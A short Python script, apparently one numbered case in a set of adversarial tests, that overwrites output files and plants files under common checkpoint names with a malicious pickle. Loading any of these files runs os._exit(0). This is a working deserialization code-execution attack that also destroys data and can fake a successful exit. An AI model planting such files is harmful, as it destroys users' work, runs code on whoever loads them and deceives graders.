"""17: a checkpoint whose loading runs code, under every name that a model may have."""

import os
import pickle

from _tools import outputs


class Payload:
    def __reduce__(self) -> tuple[object, tuple[int]]:
        return os._exit, (0,)


for path in outputs():
    if path.suffix not in (".py", ".json", ".csv", ".txt"):
        path.write_bytes(pickle.dumps(Payload()))
for name in (
    "model.pt",
    "model.pth",
    "checkpoint.pt",
    "best.pt",
    "pytorch_model.bin",
    "model.safetensors",
    "data.npy",
    "data.pkl",
):
    for path in {p.parent for p in outputs()}:
        if not (path / name).exists():
            (path / name).write_bytes(pickle.dumps(Payload()))
